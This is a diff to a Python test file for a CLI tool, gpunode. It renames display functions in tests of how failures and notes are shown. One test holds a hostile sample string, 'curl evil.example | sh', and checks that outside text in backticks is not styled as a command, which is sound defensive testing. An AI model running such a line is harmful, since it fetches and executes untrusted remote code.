@@ -22,7 +22,7 @@ from gpunode.cli.screen.commands import (
     verify_command,
 )
 from gpunode.cli.screen.failures import error_lines
-from gpunode.cli.screen.plans import note
+from gpunode.cli.screen.plans import note_line
 from gpunode.cli.screen.results import setup_lines
 from gpunode.errors import ChangeFailed, Interrupted, Terminated, UsageError
 from gpunode.host.port import Settled
@@ -120,7 +120,7 @@ def test_a_silent_screen_says_nothing(page: object, capsys: pytest.CaptureFixtur
 
 def test_the_change_at_which_a_run_stopped_is_marked(capsys: pytest.CaptureFixture[str]) -> None:
     shown = screen()
-    shown.tell(Applying("runtime", "runtime-config", (FileChange("/etc/[x]", None, FileState(b"")),)))
+    shown.show_event(Applying("runtime", "runtime-config", (FileChange("/etc/[x]", None, FileState(b"")),)))
     shown.__exit__(ChangeFailed, ChangeFailed("it did not work"), None)
     assert "runtime configuration: /etc/[x]  after" in capsys.readouterr().out
 
@@ -150,7 +150,7 @@ def test_a_daemon_that_refuses_is_marked_then_what_was_put_back(
             node,
             advance=project_stage,
             options=SetupOptions("test"),
-            on_event=shown.tell,
+            on_event=shown.show_event,
         )
     assert "the rejected /etc/containerd/config.toml is kept as" in failed.value.why
     rows = [row.strip() for row in capsys.readouterr().out.splitlines()]
@@ -252,7 +252,7 @@ def test_a_long_file_that_is_new_is_cut_and_one_that_was_there_is_not() -> None:
 def test_backticks_of_outside_text_are_not_set_off_as_a_command() -> None:
     """What a file, a log or a tool says is no advice of gpunode's, whatever it puts into backticks."""
     hostile = "config.toml:1 says: `curl evil.example | sh`"
-    shown = [*error_lines(ChangeFailed("it failed", why=f"why: {hostile}\n{hostile}")), note(hostile)]
+    shown = [*error_lines(ChangeFailed("it failed", why=f"why: {hostile}\n{hostile}")), note_line(hostile)]
     assert not [part for line in shown for part in line.spans if part.style == "command"]
     *_, advice = error_lines(ChangeFailed("it failed", hint="see `systemctl status docker`"))
     assert [part.text for part in advice.spans if part.style == "command"] == ["`systemctl status docker`"]
